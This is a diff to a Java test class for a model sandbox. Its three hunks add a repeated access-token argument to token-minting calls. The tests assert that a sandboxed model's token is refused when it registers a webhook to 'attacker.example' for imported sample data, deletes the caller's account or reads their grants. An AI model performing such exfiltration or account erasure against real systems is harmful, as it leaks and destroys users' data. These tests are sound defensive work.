@@ -298,7 +298,7 @@ class ModelSandboxTest {
                 }
                 AccessToken own = oauth2.getCredentialsToken();
                 Caller application = Caller.clientToken(app.id(), Set.copyOf(own.scopes()));
-                String minted = Identity.platform(s).authenticators().invocations().mint(application, own.accessToken(),
+                String minted = Identity.platform(s).authenticators().invocations().mint(application, own.accessToken(), own.accessToken(),
                         Set.of("samples:write", "streams:write"), Duration.ofSeconds(30));
                 Path channel = Identity.platform(s).config().modelsRoot().resolve(".channel/api.sock");
                 assertEquals(401, channelCode(channel, minted, "POST", "/webhooks", "url=https%3A%2F%2Fattacker.example%2Fhook&events=sample.data_imported"),
@@ -353,7 +353,7 @@ class ModelSandboxTest {
                 assertEquals(403, channelCode(channel, userToken.accessToken(), "/profile"), "nothing but invocation tokens count in the channel");
 
                 Caller caller = Caller.userToken(app.id(), person.userId(), Set.of("profile", "samples", "variants"));
-                String live = Identity.platform(s).authenticators().invocations().mint(caller, userToken.accessToken(), Set.of("profile"),
+                String live = Identity.platform(s).authenticators().invocations().mint(caller, userToken.accessToken(), userToken.accessToken(), Set.of("profile"),
                         Duration.ofSeconds(30));
                 assertEquals(0, channelCode(channel, live, "/profile"), "a live invocation token works through the channel");
                 ApiException outside = org.junit.jupiter.api.Assertions.assertThrows(ApiException.class,
@@ -361,7 +361,7 @@ class ModelSandboxTest {
                 assertEquals(403, outside.code(), "and nowhere else");
                 // A version deployed declaring grants before that was refused: its token still never has them.
                 Caller holdsGrants = Caller.userToken(app.id(), person.userId(), Set.of("profile", "grants"));
-                String grants = Identity.platform(s).authenticators().invocations().mint(holdsGrants, userToken.accessToken(),
+                String grants = Identity.platform(s).authenticators().invocations().mint(holdsGrants, userToken.accessToken(), userToken.accessToken(),
                         Set.of("grants:write", "grants"), Duration.ofSeconds(30));
                 assertEquals(401, channelCode(channel, grants, "DELETE", "/user", null), "a model never erases its caller's account");
                 assertEquals(401, channelCode(channel, grants, "GET", "/user/grants", null), "nor reads their grants");
